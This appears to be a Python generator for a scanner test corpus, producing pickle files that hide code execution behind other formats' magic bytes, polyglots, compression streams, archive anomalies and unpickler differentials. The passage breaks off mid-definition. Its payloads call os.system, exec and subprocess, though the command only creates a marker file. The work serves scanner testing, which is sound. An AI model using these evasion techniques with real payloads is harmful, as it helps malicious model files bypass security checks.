#!/usr/bin/env python3
"""Evasion corpus for issues 9 and 10: fixtures, manifest, loader self-test.

  gen.py OUTDIR            write every fixture and OUTDIR/manifest.json
  gen.py --self-test       build a harmless twin of every malicious fixture
                           (its payload only creates a marker file), run it
                           through the real loaders its manifest entry names,
                           each in a forked child with a timeout, inside a
                           temporary directory; fail when a fixture that
                           should execute does not (exit 77 without loaders)
  gen.py --list            print name, class, verdict, loaders

Writing uses the standard library only and never unpickles anything; the
self-test is the only mode that loads, and only the marker variants.
Optional writers (py7zr for 7z filter chains) are used when installed; the
fixtures they make are simply absent otherwise.
"""
import io
import json
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import arc  # noqa: E402
import pk   # noqa: E402
from pk import (sglobal, glob, ustr, byts, tup, call, whole, proto,  # noqa: E402
                const, build, STOP, POP, MARK, REDUCE, EMPTY_DICT)

FIXTURES = []


class Ctx:
    """What a payload does.  The corpus payload runs a shell command; the
    self-test's marker variant does the same thing with a command, file or
    code string that only creates `marker`."""

    def __init__(self, marker=None, benign=False):
        self.benign = benign
        self.marker = marker or '/tmp/.picklewarden-evasion'
        self.cmd = 'touch ' + self.marker
        self.code = 'open(%r, "w").close()' % self.marker
        self.dir = os.path.dirname(self.marker)

    def payload(self, style=0):
        """An expression (one value on the stack) that runs the payload, or
        a harmless value in a benign twin.  style varies the gadget so that
        container fixtures do not all carry the same import."""
        if self.benign:
            return call(glob('collections', 'OrderedDict'))
        s = style % 3
        if s == 0:
            return call(glob('posix', 'system'), ustr(self.cmd))
        if s == 1:
            return call(glob('builtins', 'exec'), ustr(self.code))
        return call(glob('subprocess', 'getoutput'), ustr(self.cmd))

    def pickle(self, style=0, protocol=2):
        return whole(self.payload(style), protocol)


def fx(name, cls, loaders, note, twin=True, verdict='malicious', needs=(),
       isolate=False):
    """Register a fixture builder.  loaders: the real loaders that execute
    it (the self-test proves it); [] means no stock loader runs it and the
    verdict rests on policy (note says why).  twin: also write a benign
    twin (same builder, harmless payload) that must not be malicious.
    isolate: the payload changes interpreter state (patches a class), so
    the self-test runs each of its loads in a fresh child."""
    def deco(f):
        FIXTURES.append(dict(name=name, cls=cls, loaders=list(loaders),
                             note=note, build=f, twin=twin, verdict=verdict,
                             needs=list(needs), rneeds=_rneeds(name),
                             isolate=isolate))
        return f
    return deco


# Fixtures whose payload imports an ML package only execute where it is
# installed: the self-test skips them elsewhere (they are still written).
RNEEDS = [('torch', ('hof-', 'nested-loader-datapipes', 'nested-loader-pickle-loads',
                     'gadget-torch', 'dotted-torch', 'dotted-ordereddict',
                     'nested-pickle-bytes', 'oddargs-rebuild')),
          ('pandas', ('hof-pandas', 'dotted-pandas')),
          ('sklearn', ('gadget-sklearn',)), ('scipy', ('gadget-scipy',)),
          ('joblib', ('gadget-joblib', 'nested-loader-joblib')),
          ('numpy', ('gadget-numpy', 'dotted-numpy', 'npz-', 'npy-'))]


def _rneeds(name):
    return [m for m, prefixes in RNEEDS if name.startswith(prefixes)]


# ---------------------------------------------------------------------------
# Issue 9: a magic number is not a format
# ---------------------------------------------------------------------------
P_LOAD = ['pickle.load', 'pickle.loads', 'pickle._Unpickler', 'torch.load',
          'joblib.load']


def _after(prefix_swallow, ctx, style):
    """prefix_swallow consumed the magic; POP its value, then the payload."""
    return prefix_swallow + POP + ctx.payload(style) + STOP


@fx('magic-gguf-binfloat.gguf', '9-magic', P_LOAD,
    "GGUF magic: 'G' is BINFLOAT, which swallows 'GUF' and the version")
def _(ctx):
    return _after(b'GGUF' + struct.pack('<I', 3) + b'\0', ctx, 0)


@fx('magic-gguf-v2-binfloat.bin', '9-magic', P_LOAD,
    'GGUF v2 header, no extension: BINFLOAT eats magic and version')
def _(ctx):
    return _after(b'GGUF' + struct.pack('<I', 2) + b'\x07', ctx, 1)


@fx('magic-gif89a-binfloat.gif', '9-magic', P_LOAD,
    "GIF89a: 'G' BINFLOAT swallows 'IF89a' and the width")
def _(ctx):
    return _after(b'GIF89a\x10\x00', ctx, 2)


@fx('magic-gif87a-binfloat.pt', '9-magic', P_LOAD,
    'GIF87a named .pt: BINFLOAT swallows the image header')
def _(ctx):
    return _after(b'GIF87a\x01\x00', ctx, 0)


@fx('magic-safetensors-binfloat.safetensors', '9-magic', P_LOAD,
    "safetensors length prefix whose low byte is 'G' (BINFLOAT): the "
    "float eats the length and the '{'; header length covers the file")
def _(ctx):
    p = POP + ctx.payload(0) + STOP
    # Bytes 1-7 are eaten by BINFLOAT whatever they are: the header length
    # is 0x47 + 256*k, k chosen so that the header covers the pickle.
    k = (len(p) + 1) // 256 + 1
    hlen = 0x47 + (k << 8)
    data = struct.pack('<Q', hlen) + b'{' + p
    return data + b' ' * (8 + hlen - len(data))


@fx('magic-safetensors-binbytes.safetensors', '9-magic', P_LOAD,
    "safetensors length prefix 'B' L: BINBYTES swallows the rest of the "
    "length and the '{', the pickle runs inside the 'JSON header'")
def _(ctx):
    L = 4
    hlen = 0x42 + (L << 8)
    data = struct.pack('<Q', hlen) + b'{'
    assert data[0:1] == b'B' and struct.unpack_from('<I', data, 1)[0] == L
    data += POP + ctx.payload(1) + STOP
    return data + b' ' * (8 + hlen - len(data))


def _swallow(magic):
    return byts(magic)


for _i, (_fmt, _magic, _ext) in enumerate([
        ('png', b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR', 'png'),
        ('jpeg', b'\xff\xd8\xff\xe0\x00\x10JFIF\x00', 'jpg'),
        ('hdf5', b'\x89HDF\r\n\x1a\n\x00\x00\x00\x00', 'h5'),
        ('ggml', b'lmgg', 'bin'),
        ('ggjt', b'tjgg\x03\x00\x00\x00', 'bin'),
        ('onnx', b'\x08\x07\x12\x07pytorch\x1a\x031.13', 'onnx'),
        ('msgpack', b'\x82\xa4name\xa5model', 'msgpack'),
        ('zip', b'PK\x03\x04\x14\x00\x00\x00', 'zip'),
        ('7z', b"7z\xbc\xaf'\x1c\x00\x04", '7z'),
        ('gzip', b'\x1f\x8b\x08\x00\x00\x00\x00\x00', 'gz'),
        ('bzip2', b'BZh91AY&SY', 'bz2'),
        ('xz', b'\xfd7zXZ\x00\x00\x04', 'xz'),
        ('zstd', b'\x28\xb5\x2f\xfd\x20\x00', 'zst'),
        ('lz4', b'\x04\x22\x4d\x18\x64\x40', 'lz4'),
        ('lzma', b'\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff', 'lzma'),
        ('zlib', b'\x78\x9c', 'z'),
        ('joblib-zf', b'ZF0x00000000000000000', 'pkl'),
        ('tar-ustar', b'\0' * 0 + b'model.pkl', 'tar'),
        ('numpy', b'\x93NUMPY\x01\x00', 'npy')]):
    def _mk(fmt, magic, style):
        def b(ctx):
            return _after(_swallow(magic), ctx, style)
        return b
    fx('magic-%s-shortbytes.%s' % (_fmt, _ext), '9-magic', P_LOAD,
       '%s magic (and header bytes) inside SHORT_BINBYTES at offset 1; '
       'the extension claims %s' % (_fmt, _fmt))(_mk(_fmt, _magic, _i))


@fx('magic-onnx-protobuf-fields.onnx', '9-magic', P_LOAD,
    "protobuf whose first field tag 'U' (field 10, fixed32) is "
    'SHORT_BINSTRING and eats its own 4-byte value')
def _(ctx):
    return _after(b'U\x03abc', ctx, 2)


@fx('magic-tar-name-is-pickle.tar', '9-magic',
    ['pickle.load', 'pickle.loads', 'pickle._Unpickler', 'joblib.load'],
    "a valid ustar archive whose first member's NAME field is a pickle: "
    'pickle.load runs it, a tar reader sees a tar')
def _(ctx):
    p = ctx.payload(0) + STOP
    if b'\0' in p or len(p) > 100:
        return None
    return arc.tar_raw_name(p, b'x') + arc.tar_bytes([('b', b'y')], 'ustar')


@fx('polyglot-pickle-then-hdf5.h5', '9-polyglot', P_LOAD,
    'a pickle in the HDF5 user block: HDF5 readers look for the superblock '
    'at 0, 512, 1024...; every unpickler runs the pickle at 0')
def _(ctx):
    p = ctx.pickle(1)
    ub = p + b'\0' * (512 - len(p))
    sb = b'\x89HDF\r\n\x1a\n' + b'\0' * 8 + b'\x08\x08\x00\x00' + b'\0' * 40
    return ub + sb


@fx('polyglot-pickle-then-zip.pt', '9-polyglot', P_LOAD,
    'pickle followed by a valid zip (offsets relative to the prefix): '
    'zip tools see a benign archive, torch.load sees no PK at 0 and runs '
    'the pickle (the polyglot is hostile by itself: no twin)', twin=False)
def _(ctx):
    return arc.zip_bytes([('archive/data.pkl', whole(const({'w': 1}))),
                          ('archive/version', b'3\n')],
                         prefix=ctx.pickle(0))


@fx('polyglot-pickle-then-png.png', '9-polyglot', P_LOAD,
    'pickle followed by a PNG image')
def _(ctx):
    return ctx.pickle(2) + b'\x89PNG\r\n\x1a\n' + b'\0\0\0\rIHDR' + b'\0' * 17


@fx('polyglot-pickle-then-safetensors.safetensors', '9-polyglot', P_LOAD,
    'pickle followed by a safetensors body')
def _(ctx):
    hdr = b'{"__metadata__":{"format":"pt"}}'
    return ctx.pickle(0) + struct.pack('<Q', len(hdr)) + hdr


@fx('forced-error-bz2-magic-raw-pickle.pkl', '9-forced-error',
    ['pickle.load', 'pickle.loads', 'torch.load'],
    "raw pickle beginning 'BZh1': BINBYTES whose length ('Zh1\\0' = "
    '3.2 MB) swallows padding; bz2 decoding fails, unpickling runs it')
def _(ctx):
    n = struct.unpack('<I', b'Zh1\0')[0]
    return b'BZh1\0' + b'\0' * n + POP + ctx.payload(0) + STOP


@fx('forced-error-gzip-ext-raw-pickle.pkl.gz', '9-forced-error',
    ['pickle.load', 'joblib.load', 'torch.load'],
    'a raw pickle named .pkl.gz: the name says gzip, every loader but '
    'pandas reads a pickle')
def _(ctx):
    return ctx.pickle(1)


@fx('forced-error-zip-100k-members.pt', '9-forced-error', ['torch.load'],
    '100,000 empty stored members before archive/data.pkl (zip64 end '
    'records); torch.load opens data.pkl through the central directory')
def _(ctx):
    return arc.zip_many_empty(100000, 'archive',
                              [('archive/version', b'3\n'),
                               ('archive/data.pkl', ctx.pickle(0))])


@fx('forced-error-zip-20k-members.pt', '9-forced-error', ['torch.load'],
    '20,000 empty members before data.pkl (classic end record)')
def _(ctx):
    return arc.zip_many_empty(20000, 'model',
                              [('model/data.pkl', ctx.pickle(2)),
                               ('model/version', b'3\n')])


def _nest_load_from_bytes(ctx, depth):
    """torch.storage._load_from_bytes(b) nested `depth` times; the payload
    is in the innermost pickle.  torch.load runs every level."""
    p = ctx.pickle(0)
    for _ in range(depth):
        p = whole(call(glob('torch.storage', '_load_from_bytes'), byts(p)))
    return p


for _d in (9, 12):
    fx('forced-error-nested-loader-depth-%d.pt' % _d, '9-forced-error',
       ['pickle.load', 'torch.load'],
       'torch.storage._load_from_bytes nested %d deep (past the default '
       'max_depth of 8); each level is a real torch.load (no benign twin: '
       'nobody nests loaders)' % _d, twin=False)((lambda d: lambda ctx: _nest_load_from_bytes(ctx, d))(_d))


@fx('forced-error-stack-4m.pkl', '9-forced-error',
    ['pickle.load', 'pickle.loads', 'torch.load'],
    '4.5 million NONE pushed and left on the stack (past the 4 Mi-entry '
    'stack cap), then the payload')
def _(ctx):
    return proto(2) + pk.NONE * 4500000 + ctx.payload(0) + STOP


@fx('forced-error-marks-1m.pkl', '9-forced-error',
    ['pickle.load', 'pickle.loads', 'torch.load'],
    '1.1 million MARKs never closed (past the 1 Mi mark cap), then the '
    'payload')
def _(ctx):
    return proto(2) + MARK * 1100000 + ctx.payload(1) + STOP


for _n in (2000, 70000):
    fx('forced-error-long-dotted-name-%d.pkl' % _n, '9-forced-error',
       ['pickle.load', 'pickle.loads', 'pickle._Unpickler'],
       "pathlib + 'os.path.os.path...system' (%d characters): a dotted "
       'name past the name/line caps that still resolves to os.system' % _n,
       twin=False)((lambda n: lambda ctx: whole(
           call(pk.glob('pathlib', 'os.path.' * (n // 8) + 'os.system'),
                ustr(ctx.cmd)), 4))(_n))


# --- torch: tar by tarfile's rules, stacked legacy pickles -------------------
def _legacy_stream(ctx, where):
    """torch legacy stream: magic number, protocol, sys_info, data pickle,
    storage keys; the payload goes into pickle number `where` (0-based)."""
    parts = [whole(b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little')),
             whole(pk.integer(1001)),
             whole(const({'protocol_version': 1001, 'little_endian': True,
                          'type_sizes': {'short': 2, 'int': 4, 'long': 4}})),
             whole(const({'w': 1})),
             whole(const([]))]
    if where < 5:
        parts[where] = whole(ctx.payload(where))
    return b''.join(parts)


for _w in (2, 3, 4):
    def _mkl(w):
        def b(ctx):
            return _legacy_stream(ctx, w)
        return b
    fx('legacy-stacked-payload-in-pickle%d.pt' % (_w + 1), '9-stacked',
       ['torch.load'],
       'torch legacy stream (magic, protocol, sys_info, data, keys): '
       'payload in pickle #%d only' % (_w + 1))(_mkl(_w))


# torch.load compares the magic number by value: any encoding of it passes
# (LONG4 with sign-extension padding, a protocol-0 INT line of the decimal
# value), and then torch's persistent_load reads the data pickle, where a
# ('module', obj, None, None) id simply returns obj: a reading that stops
# at the persistent id misses the payload after it.
_MAGIC = 0x1950a86a20f9469cfc6c
_MAGIC_FORMS = {
    'long4': b'\x8b' + struct.pack('<i', 16) +
             _MAGIC.to_bytes(10, 'little') + b'\0' * 6,
    'inttext': b'I%d\n' % _MAGIC,
    'framed-memo': pk.frame(b'\x8a\x0a' + _MAGIC.to_bytes(10, 'little') +
                            pk.MEMOIZE),
    # computed: int('1195...') - allowlisted, and equal to the magic
    'computed': call(glob('builtins', 'int'), ustr(str(_MAGIC))),
}


def _legacy_odd_magic(ctx, form):
    magic = proto(4 if form.startswith('framed') else 2) + \
        _MAGIC_FORMS[form] + STOP
    pid = MARK + ustr('module') + pk.integer(0) + b'NN' + pk.TUPLE + b'Q'
    data = proto(2) + pid + POP + ctx.payload(3) + STOP
    return (magic + whole(pk.integer(1001)) +
            whole(const({'protocol_version': 1001, 'little_endian': True,
                         'type_sizes': {'short': 2, 'int': 4, 'long': 4}})) +
            data + whole(const([])))


for _form in sorted(_MAGIC_FORMS):
    def _mko(form):
        def b(ctx):
            return _legacy_odd_magic(ctx, form)
        return b
    fx('legacy-odd-magic-%s.pt' % _form, '9-stacked', ['torch.load'],
       'torch legacy stream whose magic number is encoded as %s (torch '
       'compares the value); the payload follows a persistent id in the '
       'data pickle' % _form)(_mko(_form))


@fx('legacy-stacked-payload-after-keys.pt', '9-stacked', [],
    'legacy stream with a 6th pickle after the storage keys: torch reads '
    'raw storage bytes there, so nothing runs it; must not be clean')
def _(ctx):
    return _legacy_stream(Ctx(benign=True), 9) + ctx.pickle(0)


@fx('concat-two-pickles.pkl', '9-stacked', [],
    'benign pickle then malicious pickle: pickle.load stops at the first '
    'STOP; a loader that reads on (legacy torch, a loop of pickle.load) '
    'runs the second (peer suites expect this malicious)')
def _(ctx):
    return whole(const(['a', 'b'])) + ctx.pickle(1, 4)


def _tar_torch(ctx, fmt, where):
    # storages: a count, then the list of views; tensors: a count.
    mem = {'storages': whole(pk.integer(0)) + whole(const([])),
           'tensors': whole(pk.integer(0)),
           'pickle': whole(const({'w': 1}))}
    if where == 'storages':
        mem[where] = ctx.pickle(0) + whole(const([]))
    else:
        mem[where] = ctx.pickle(1)
    return arc.tar_bytes([(k, mem[k]) for k in ('storages', 'tensors', 'pickle')], fmt)


for _fmt in ('v7', 'gnu', 'ustar'):
    for _where in ('storages', 'pickle'):
        def _mkt(fmt, where):
            def b(ctx):
                return _tar_torch(ctx, fmt, where)
            return b
        fx('torch-tar-%s-%s.pt' % (_fmt, _where), '9-tar', ['torch.load'],
           'legacy torch tar (%s header%s), payload in member %r'
           % (_fmt, ', no ustar magic' if _fmt == 'v7' else '', _where))(_mkt(_fmt, _where))


@fx('torch-tar-gnu-longname-tensors.pt', '9-tar', ['torch.load'],
    'legacy torch tar (GNU) with a ././@LongLink entry first and the '
    'payload in member "tensors"')
def _(ctx):
    return arc.tar_bytes([('x' * 150, b''), ('storages', whole(pk.integer(0)) + whole(const([]))),
                          ('tensors', ctx.pickle(2)), ('pickle', whole(const({'w': 1})))],
                         'gnu')


@fx('polyglot-pickle-then-tar.tar', '9-polyglot',
    ['pickle.load', 'pickle.loads', 'pickle._Unpickler', 'joblib.load'],
    'a pickle padded to 512 bytes as the first tar header (valid '
    'checksum): tar readers see an archive, unpicklers run the pickle',
    twin=False)
def _(ctx):
    return arc.tar_raw_name(ctx.pickle(0), b'') + arc.tar_bytes([('b', b'y')], 'ustar')


@fx('polyglot-pickle-then-7z.7z', '9-polyglot', P_LOAD,
    'a pickle followed by a 7z signature header')
def _(ctx):
    return ctx.pickle(1) + b"7z\xbc\xaf'\x1c\x00\x04" + b'\0' * 24


@fx('polyglot-pickle-then-gguf.gguf', '9-polyglot', P_LOAD,
    'a pickle followed by a GGUF header')
def _(ctx):
    return ctx.pickle(2) + b'GGUF' + struct.pack('<IQQ', 3, 0, 0)


# --- decompression parity: multi-member and concatenated streams -----------
def _split(ctx, style=0, protocol=2):
    """A pickle cut in two: the first part (PROTO and a harmless value) has
    no STOP; the payload is in the second part only."""
    head = proto(protocol) + const({'w': [1, 2, 3]}) + POP
    tail = ctx.payload(style) + STOP
    return head, tail


@fx('gzip-two-members-zero-padding.pkl.gz', '9-multistream',
    ['pandas.read_pickle', 'gzip+pickle'],
    'gzip member 1 holds the harmless head, 512 zero bytes, member 2 holds '
    'the payload; gzip readers skip the padding and read every member')
def _(ctx):
    return arc.gzip_members(_split(ctx, 0), pad=512)


@fx('gzip-three-members.pkl.gz', '9-multistream',
    ['pandas.read_pickle', 'gzip+pickle'],
    'three gzip members, no padding, payload split over members 2 and 3 '
    '(joblib 1.2 cannot read multi-member gzip: it runs out of memory)')
def _(ctx):
    h, t = _split(ctx, 1)
    return arc.gzip_members([h, t[:5], t[5:]])


@fx('gzip-member-after-empty-member.pkl.gz', '9-multistream',
    ['pandas.read_pickle', 'gzip+pickle'],
    'an empty gzip member first, zero padding, then the pickle')
def _(ctx):
    return arc.gzip_members([b'', ctx.pickle(2)], pad=4)


@fx('xz-two-streams.pkl.xz', '9-multistream',
    ['joblib.load', 'pandas.read_pickle', 'lzma+pickle'],
    'two concatenated xz streams, payload in the second')
def _(ctx):
    return arc.xz_streams(_split(ctx, 0))


@fx('lzma-alone-two-streams.joblib', '9-multistream', ['joblib.load'],
    'two concatenated .lzma (alone) streams, payload in the second')
def _(ctx):
    return arc.lzma_alone_streams(_split(ctx, 1))


@fx('bz2-two-streams.pkl.bz2', '9-multistream',
    ['joblib.load', 'pandas.read_pickle', 'bz2+pickle'],
    'two concatenated bzip2 streams, payload in the second')
def _(ctx):
    return arc.bz2_streams(_split(ctx, 2))


@fx('zstd-two-frames.pkl.zst', '9-multistream', [],
    'two zstd frames (raw blocks), payload in the second; pandas 1.5 with '
    'zstandard 0.19 (Debian 12) cannot unpickle from its zstd reader '
    '(UnsupportedOperation), newer stacks can')
def _(ctx):
    return arc.zstd_raw_frames(_split(ctx, 0))


@fx('lz4-two-frames.joblib', '9-multistream', ['joblib.load'],
    'two LZ4 frames (stored blocks), payload in the second')
def _(ctx):
    return arc.lz4_stored_frames(_split(ctx, 1))


@fx('zlib-then-trailing-pickle.joblib', '9-multistream', [],
    'a zlib stream of a harmless pickle, then a raw malicious pickle: '
    'joblib stops at the zlib end; bytes after it must not be judged clean')
def _(ctx):
    return arc.zlib_stream(whole(const([1]))) + ctx.pickle(0)


# --- archive members with every method the Python readers accept -----------
import zipfile as _zf  # noqa: E402

for _m, _mn in ((_zf.ZIP_STORED, 'stored'), (_zf.ZIP_DEFLATED, 'deflate'),
                (_zf.ZIP_BZIP2, 'bzip2'), (_zf.ZIP_LZMA, 'lzma')):
    def _mknpz(m):
        def b(ctx):
            return arc.zip_bytes([('w.npy', _npy_object(ctx, 0), m)])
        return b
    fx('npz-member-%s.npz' % _mn, '9-archive-method', ['numpy.load'],
       'npz whose object .npy member is compressed with method %s '
       '(zipfile decodes it)' % _mn)(_mknpz(_m))

for _m, _mn in ((_zf.ZIP_STORED, 'stored'), (_zf.ZIP_DEFLATED, 'deflate')):
    def _mkpt(m):
        def b(ctx):
            return arc.zip_bytes([('archive/data.pkl', ctx.pickle(1), m),
                                  ('archive/version', b'3\n', m)])
        return b
    fx('torchzip-%s.pt' % _mn, '9-archive-method', ['torch.load'],
       'torch zip with data.pkl %s' % _mn)(_mkpt(_m))


def _npy_object(ctx, style):
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + ' ' * (-(10 + len(hdr) + 1) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(hdr)) + hdr.encode() \
        + ctx.pickle(style, 3)


@fx('npy-object.npy', '9-archive-method', ['numpy.load'],
    'object-dtype .npy: a pickle after the header')
def _(ctx):
    return _npy_object(ctx, 2)


@fx('torchzip-crc-mismatch.pt', '9-archive-method', ['torch.load'],
    'data.pkl with a wrong CRC in both headers (PyTorch ignores CRCs); '
    'the anomaly is hostile by itself, so no benign twin', twin=False)
def _(ctx):
    b = arc.zip_bytes([('archive/data.pkl', ctx.pickle(0)),
                       ('archive/version', b'3\n')])
    return arc.zip_patch(b, 'archive/data.pkl', crc_xor=0x5a5a5a5a)


for _flag in (0x1, 0x8, 0x20, 0x40, 0x800):
    def _mkf(flag):
        def b(ctx):
            z = arc.zip_bytes([('archive/data.pkl', ctx.pickle(flag)),
                               ('archive/version', b'3\n')])
            return arc.zip_patch(z, 'archive/data.pkl', flags=flag)
        return b
    fx('torchzip-flag-0x%x.pt' % _flag, '9-archive-method',
       ['torch.load'] if _flag in (0x8, 0x800) else [],
       'data.pkl with general-purpose flag 0x%x in both headers%s' % (
           _flag, '' if _flag in (0x8, 0x800) else
           ' (torch 1.13 refuses encrypted/patch flags; peers expect it '
           'malicious, and other zip readers ignore the bit)'), twin=False)(_mkf(_flag))


@fx('torchzip-local-name-mismatch.pt', '9-archive-method', ['torch.load'],
    "local header names 'archive/data.pkx', central directory "
    "'archive/data.pkl' (hostile by itself: no twin)", twin=False)
def _(ctx):
    z = arc.zip_bytes([('archive/data.pkl', ctx.pickle(2)),
                       ('archive/version', b'3\n')])
    return arc.zip_patch(z, 'archive/data.pkl', local_name='archive/data.pkx')


@fx('torchzip-odd-top-folder.bin', '9-archive-method', ['torch.load'],
    'torch zip whose top folder is not "archive" and whose name is .bin')
def _(ctx):
    return arc.zip_bytes([('x/version', b'3\n'), ('x/data.pkl', ctx.pickle(0))])


@fx('torchzip-constants-pkl.pt', '9-archive-method', [],
    'payload in constants.pkl of a plain (non-TorchScript) torch zip: '
    'torch.load only reads it for TorchScript archives; must not be clean')
def _(ctx):
    return arc.zip_bytes([('archive/data.pkl', whole(const({'w': 1}))),
                          ('archive/constants.pkl', ctx.pickle(1)),
                          ('archive/version', b'3\n')])


def _sevenz(ctx, filters):
    try:
        import py7zr
    except ImportError:
        return None
    import tempfile
    # py7zr 0.11 (Debian 12) writes members from files only.
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, 'data.pkl')
        with open(src, 'wb') as fp:
            fp.write(ctx.pickle(0))
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, 'w', filters=filters) as z:
            z.write(src, 'data.pkl')
        return buf.getvalue()


@fx('7z-bcj-lzma2.7z', '9-archive-method', ['py7zr:data.pkl'],
    '7z member data.pkl with the BCJ + LZMA2 filter chain (py7zr); no '
    'model loader opens 7z, peers expect it malicious', needs=['py7zr'])
def _(ctx):
    import lzma
    return _sevenz(ctx, [{'id': lzma.FILTER_X86}, {'id': lzma.FILTER_LZMA2}])


@fx('7z-lzma2.7z', '9-archive-method', ['py7zr:data.pkl'],
    '7z member data.pkl with LZMA2', needs=['py7zr'])
def _(ctx):
    import lzma
    return _sevenz(ctx, [{'id': lzma.FILTER_LZMA2}])


@fx('7z-delta-lzma.7z', '9-archive-method', ['py7zr:data.pkl'],
    '7z member with the Delta + LZMA1 chain', needs=['py7zr'])
def _(ctx):
    import lzma
    return _sevenz(ctx, [{'id': lzma.FILTER_DELTA, 'dist': 4},
                         {'id': lzma.FILTER_LZMA1}])


# --- nested containers -------------------------------------------------------
@fx('nested-tar-gz.pkl.tar.gz', '9-nested', ['pandas.read_pickle'],
    'pandas reads .tar.gz: gzip, then the single tar member, then unpickles')
def _(ctx):
    import gzip
    return gzip.compress(arc.tar_bytes([('m.pkl', ctx.pickle(0))], 'gnu'), mtime=0)


@fx('nested-tar-xz.pkl.tar.xz', '9-nested', ['pandas.read_pickle'],
    'pandas reads .tar.xz: xz, then the tar member (V7 header), then unpickles')
def _(ctx):
    import lzma
    return lzma.compress(arc.tar_bytes([('m.pkl', ctx.pickle(1))], 'v7'))


@fx('nested-tar-bz2.pkl.tar.bz2', '9-nested', ['pandas.read_pickle'],
    'pandas reads .tar.bz2 with two bz2 streams: the tar is split over them')
def _(ctx):
    t = arc.tar_bytes([('m.pkl', ctx.pickle(2))], 'ustar')
    return arc.bz2_streams([t[:300], t[300:]])


@fx('nested-zip-in-pandas.pkl.zip', '9-nested', ['pandas.read_pickle'],
    'pandas reads .zip: the single member is unpickled')
def _(ctx):
    return arc.zip_bytes([('m.pkl', ctx.pickle(1), _zf.ZIP_DEFLATED)])


@fx('nested-npz-in-zip.zip', '9-nested', [],
    'a zip holding an npz holding an object .npy: no loader opens the '
    'outer zip, but the payload is two unpacks away (peers: malicious)')
def _(ctx):
    inner = arc.zip_bytes([('w.npy', _npy_object(ctx, 2))])
    return arc.zip_bytes([('model.npz', inner)])


@fx('nested-gzip-of-torchzip.pt.gz', '9-nested', [],
    'gzip of a torch zip whose data.pkl carries the payload')
def _(ctx):
    import gzip
    return gzip.compress(arc.zip_bytes([('archive/data.pkl', ctx.pickle(0)),
                                        ('archive/version', b'3\n')]), mtime=0)


@fx('nested-pickle-bytes-in-load-from-bytes.pt', '9-nested',
    ['pickle.load', 'torch.load'],
    'torch.storage._load_from_bytes(b) where b is a torch zip (not a raw '
    'pickle) whose data.pkl carries the payload')
def _(ctx):
    inner = arc.zip_bytes([('archive/data.pkl', ctx.pickle(0)),
                           ('archive/version', b'3\n')])
    return whole(call(glob('torch.storage', '_load_from_bytes'), byts(inner)))


# --- parser differentials --------------------------------------------------
@fx('diff-frame-inside-frame.pkl', '9-differential',
    ['pickle.load', 'pickle.loads', 'torch.load'],
    'a FRAME opened inside a frame: pickle._Unpickler raises, the C '
    'unpickler reads on and runs the payload after it')
def _(ctx):
    inner = pk.FRAME + struct.pack('<Q', 1) + pk.NONE + POP
    body = pk.NONE + POP + inner + ctx.payload(0) + STOP
    return proto(4) + pk.FRAME + struct.pack('<Q', len(body) + 8) + body + b'\0' * 8


@fx('diff-binbytes-straddles-frame.pkl', '9-differential', ['pickle.load'],
    'BINBYTES longer than its frame after a 128 KiB prefix (fickling '
    'bypass shape): the C unpickler reading a FILE runs the hidden '
    'GLOBAL/REDUCE; from bytes it does not (a differential: no twin)',
    twin=False)
def _(ctx):
    # BINBYTES declares 0x107 bytes while the frame holds 2; the hidden
    # opcodes follow, padded with NONE up to the declared length.
    hidden = ctx.payload(0)
    assert len(hidden) < 256
    return (proto(5) + pk.NONE + b'V' + b'a' * (8192 * 16 - 17) + b'\n' + POP
            + MARK + pk.FRAME + struct.pack('<Q', 2) + b'B' + b'\x07\x01\x00\x00'
            + b'\x00\x00' + (hidden + MARK).ljust(256 + 5, pk.NONE) + b'1' + STOP)


def _joblib_array_program(ctx, compress):
    """A joblib.dump stream whose alignment padding is a pickle program,
    compressed as joblib and pandas read it.  joblib.load takes the byte
    after the wrapper's BUILD as the padding's length and skips that many
    bytes; pickle.load reads the same bytes as opcodes: a length byte of
    78 is NONE, and the 78 bytes it announces POP it, run the payload and
    STOP.  (A genuine dump's padding length is 0-15, no opcode: pickle.load
    fails on it.)"""
    import bz2
    import gzip
    import io
    import lzma
    import joblib
    import numpy
    mark = b'PW-ARRAY-BYTES!!'
    b = io.BytesIO()
    joblib.dump(numpy.frombuffer(mark, dtype=numpy.uint8), b)
    data = b.getvalue()
    at = data.index(mark)
    # [length byte][0xff * length][array]: find the length byte
    i = at
    while data[i - 1] == 0xff:
        i -= 1
    i -= 1
    assert data[i] == at - i - 1, 'unexpected joblib padding layout'
    prog = POP + ctx.payload(0) + STOP
    assert len(prog) <= ord(pk.NONE)
    pad = prog.ljust(ord(pk.NONE), b'\xff')
    data = data[:i] + pk.NONE + pad + data[at:]
    return {'gzip': gzip.compress, 'bz2': bz2.compress,
            'xz': lzma.compress}[compress](data)


for _comp, _suffix, _plain in (('gzip', '.pkl.gz', 'gzip+pickle'),
                               ('bz2', '.pkl.bz2', 'bz2+pickle'),
                               ('xz', '.pkl.xz', 'lzma+pickle')):
    fx('diff-joblib-padding-program' + _suffix, '9-differential',
       ['pandas.read_pickle', _plain],
       'a joblib stream (%s) whose array padding is a program for '
       'pickle.load, which pandas.read_pickle runs on the decompressed '
       'stream; joblib.load skips it and returns the array' % _comp,
       needs=['joblib', 'numpy'])(
        lambda ctx, c=_comp: _joblib_array_program(ctx, c))


@fx('diff-reduce-list-args.pkl', '9-differential',
    ['pickle._Unpickler', 'pandas.read_pickle', 'joblib.load'],
    'REDUCE with a list as its arguments: the C unpickler raises '
    'TypeError before anything runs; pandas then retries with the Python '
    'unpickler, which accepts the list and runs the payload after it')
def _(ctx):
    return (proto(2) + glob('builtins', 'tuple') + pk.EMPTY_LIST + REDUCE + POP
            + ctx.payload(1) + STOP)


@fx('diff-garbage-no-stop.pkl', '9-differential',
    ['pickle.load', 'pickle.loads', 'torch.load'],
    'the payload call followed by garbage and no STOP: it runs before '
    'the unpickler fails')
def _(ctx):
    return proto(2) + ctx.payload(2) + b'\xff\xfe garbage'


@fx('diff-huge-harmless-prefix.pkl', '9-differential',
    ['pickle.load', 'pickle.loads', 'torch.load', 'joblib.load'],
